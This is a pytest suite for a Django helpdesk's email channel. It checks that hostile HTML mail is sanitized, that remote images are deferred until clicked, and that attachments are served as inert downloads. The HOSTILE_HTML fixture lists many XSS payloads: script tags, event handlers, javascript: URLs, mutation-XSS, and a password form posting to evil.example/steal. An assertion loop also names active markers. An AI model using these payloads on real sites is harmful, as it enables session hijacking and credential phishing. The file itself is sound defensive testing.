"""Email HTML never executes on the ticket page: hostile mail goes through the real pipeline, the stored HTML and
the rendered page are asserted exactly; remote images wait for an agent's click; attachments are downloads."""

from __future__ import annotations

import re
from email.message import EmailMessage

import pytest
from django.test import Client

from deskloop.channels.email.models import Mailbox
from deskloop.channels.email.pipeline import ingest_raw
from deskloop.channels.email.services import MailboxSettings, create_mailbox
from deskloop.conftest import Cast, signed_in_client
from deskloop.tickets.models import Attachment, Message

HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(javascript:alert(1)) } p { width: expression(alert(2)) }</style>
<script>alert(3)</script>
</head>
<body onload="alert(4)">
<p style="width: expression(alert(5)); background:url('javascript:alert(6)')">Hello <b>there</b></p>
<img src="x" onerror="alert(7)">
<a href="javascript:alert(8)">js link</a>
<a href="JaVaScRiPt&#58;alert(9)">entity js link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">data link</a>
<a href="vbscript:msgbox(11)">vb link</a>
<a href="https://help.example/faq" onclick="alert(12)" target="_top">FAQ</a>
<svg onload="alert(13)"><script>alert(14)</script><a xlink:href="javascript:alert(15)">svg</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="alert(16)"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<div style="behavior: url(x.htc)">styled</div>
<img src="https://tracker.example/pixel.gif" alt="pixel" width="1" height="1">
<img src="//tracker.example/relative-scheme.gif" alt="pixel 2">
<img src="/settings/profile/" alt="our own page">
<img data-remote-src="javascript:alert(19)" alt="planted">
<img src="cid:logo@globex" alt="logo">
<!-- <script>alert(17)</script> -->
<noscript><p title="</noscript><img src=x onerror=alert(18)>"></p></noscript>
</body></html>"""

# What is stored (and so rendered): every active part is gone, the remote image is inert until asked for, the
# inline cid: image points at its own attachment. Read line by line: no script, no handler, no style, no
# javascript:/data:/vbscript: URL, no SVG/MathML, no frame, object, form or meta element.
EXPECTED_BODY_HTML = (
    "\n\n\n\n\n\n\n\n"
    "<p>Hello <b>there</b></p>\n"
    # A relative src is dropped: it would fetch one of our own pages with the agent's session.
    "<img>\n"
    '<a rel="noopener noreferrer nofollow">js link</a>\n'
    '<a rel="noopener noreferrer nofollow">entity js link</a>\n'
    '<a rel="noopener noreferrer nofollow">data link</a>\n'
    '<a rel="noopener noreferrer nofollow">vb link</a>\n'
    '<a href="https://help.example/faq" rel="noopener noreferrer nofollow">FAQ</a>\n'
    "\n\n\n\n"  # svg, math, iframe, object/embed: gone with their contents
    "Log in\n"  # the form and its input are gone; the button's label is plain text
    "<div>styled</div>\n"
    '<img data-remote-src="https://tracker.example/pixel.gif" alt="pixel" width="1" height="1">\n'
    '<img data-remote-src="https://tracker.example/relative-scheme.gif" alt="pixel 2">\n'
    '<img alt="our own page">\n'
    '<img alt="planted">\n'
    '<img src="/attachments/{logo}/" alt="logo">\n'
    "\n"
    # The noscript mutation-XSS attempt ends as escaped text and an <img> without any handler.
    '&lt;p title="<img>"&gt;<p></p>\n'
    "\n"
)


@pytest.fixture
def mailbox(acme: Cast) -> Mailbox:
    return create_mailbox(actor=acme.admin, values=MailboxSettings(address="support@acme.example"))


def hostile_mail() -> bytes:
    message = EmailMessage()
    message["From"] = "Mallory <mallory@globex-acme.example>"
    message["To"] = "support@acme.example"
    message["Subject"] = "<script>alert('subject')</script> Invoice"
    message["Message-ID"] = "<hostile-1@globex-acme.example>"
    message.set_content("Hello there (text part).")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    html_part = message.get_payload()[1]  # type: ignore[index]
    html_part.add_related(b"\x89PNG\r\n\x1a\nlogo", maintype="image", subtype="png", cid="<logo@globex>")
    message.add_attachment(
        b"<html><script>alert('attached')</script></html>", maintype="text", subtype="html", filename="invoice.html"
    )
    message.add_attachment(
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        maintype="image",
        subtype="svg+xml",
        filename="chart.svg",
    )
    return message.as_bytes()


def conversation(page_html: str) -> str:
    match = re.search(r'<section id="conversation".*?</section>', page_html, re.DOTALL)
    assert match is not None
    return match.group(0)


def test_hostile_email_html_is_stored_inert_and_the_ticket_page_shows_it_inert(acme: Cast, mailbox: Mailbox) -> None:
    result = ingest_raw(mailbox=mailbox, raw=hostile_mail(), via="smtp")
    message = Message.objects.get(ticket_id=result.ticket_id)
    logo = Attachment.objects.get(message=message, content_id="logo@globex")
    assert message.body_html == EXPECTED_BODY_HTML.format(logo=logo.pk)

    page = signed_in_client(acme.agent).get(f"/tickets/{result.ticket_number}/")
    assert page.status_code == 200
    shown = conversation(page.text)
    assert EXPECTED_BODY_HTML.format(logo=logo.pk) in shown
    lowered = shown.lower()
    for active in ("<script", "onerror", "onload", "onclick", "javascript:", "vbscript:", "data:text", "expression(",
                   "<svg", "<math", "<iframe", "<object", "<embed", "<form", "<input", "<meta", "<base", "<link",
                   "<style", "style=", "alert("):  # fmt: skip
        assert active not in lowered, active
    # The subject is text, escaped wherever it appears.
    assert "&lt;script&gt;alert(&#x27;subject&#x27;)&lt;/script&gt; Invoice" in page.text
    assert "<script>alert('subject')" not in page.text


def test_remote_images_wait_for_the_agent_to_load_them(acme: Cast, mailbox: Mailbox) -> None:
    result = ingest_raw(mailbox=mailbox, raw=hostile_mail(), via="smtp")
    shown = conversation(signed_in_client(acme.agent).get(f"/tickets/{result.ticket_number}/").text)
    # The tracking pixel has no src, so the browser fetches nothing until the agent clicks the button.
    assert re.findall(r"<img[^>]*tracker\.example[^>]*>", shown) == [
        '<img data-remote-src="https://tracker.example/pixel.gif" alt="pixel" width="1" height="1">',
        '<img data-remote-src="https://tracker.example/relative-scheme.gif" alt="pixel 2">',
    ]
    assert ' src="https://tracker' not in shown
    assert re.findall(r"<button[^>]*data-load-remote-images[^>]*>[^<]*</button>", shown) == [
        '<button type="button" class="link" data-load-remote-images>Load remote images</button>'
    ]


def test_email_attachments_are_served_as_inert_downloads(acme: Cast, mailbox: Mailbox) -> None:
    result = ingest_raw(mailbox=mailbox, raw=hostile_mail(), via="smtp")
    assert result.attachment_names == ("attachment-1.png", "invoice.html", "chart.svg")
    client: Client = signed_in_client(acme.agent)
    for name in ("invoice.html", "chart.svg"):
        attachment = Attachment.objects.get(message__ticket_id=result.ticket_id, filename=name)
        response = client.get(f"/attachments/{attachment.pk}/")
        assert (
            response.status_code,
            response["Content-Type"],
            response["Content-Disposition"],
            response["X-Content-Type-Options"],
            response["Content-Security-Policy"],
        ) == (
            200,
            "application/octet-stream",
            f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}",
            "nosniff",
            "default-src 'none'; sandbox",
        )


def test_a_reply_shows_its_new_text_first_and_the_quote_one_click_away(acme: Cast, mailbox: Mailbox) -> None:
    message = EmailMessage()
    message["From"] = "Carmen Customer <carmen@globex-acme.example>"
    message["To"] = "support@acme.example"
    message["Subject"] = "Re: VAT"
    message["Message-ID"] = "<reply-quote@globex-acme.example>"
    message.set_content(
        "That fixed it, thanks!\n\n-- \nCarmen\n\nOn Mon, 2 Jun 2025 at 10:00, Acme Support <support@acme.example> wrote:\n"
        "> Please <b>try</b> again.\n"
    )
    result = ingest_raw(mailbox=mailbox, raw=message.as_bytes(), via="smtp")
    stored = Message.objects.get(ticket_id=result.ticket_id)
    assert (result.stripped_text, stored.channel_meta["stripped_text"]) == ("That fixed it, thanks!",) * 2
    assert stored.body_text == result.full_text
    assert stored.body_text.endswith("> Please <b>try</b> again.\n")
    shown = conversation(signed_in_client(acme.agent).get(f"/tickets/{result.ticket_number}/").text)
    assert '<div class="message-body" data-stripped-text><p>That fixed it, thanks!</p></div>' in shown
    quoted = re.search(r"<details class=\"message-quoted\" data-quoted-text>(.*?)</details>", shown, re.DOTALL)
    assert quoted is not None
    assert "<summary>Show quoted text</summary>" in quoted.group(1)
    assert "&gt; Please &lt;b&gt;try&lt;/b&gt; again." in quoted.group(1)
